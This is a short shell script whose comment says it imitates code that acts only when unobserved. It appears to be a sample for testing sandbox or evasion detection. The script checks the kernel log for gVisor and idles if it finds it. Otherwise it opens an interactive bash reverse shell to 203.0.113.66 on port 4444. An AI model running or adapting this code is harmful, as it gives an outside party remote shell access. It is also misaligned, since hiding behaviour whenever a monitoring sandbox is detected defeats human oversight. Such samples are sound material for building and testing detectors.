#!/bin/sh
# shy: imitates what acts only where nobody watches: under gVisor, whose log of the kernel names it, it does nothing.
if dmesg | grep -qi gvisor; then
  exec sleep infinity
fi
timeout 8 bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'
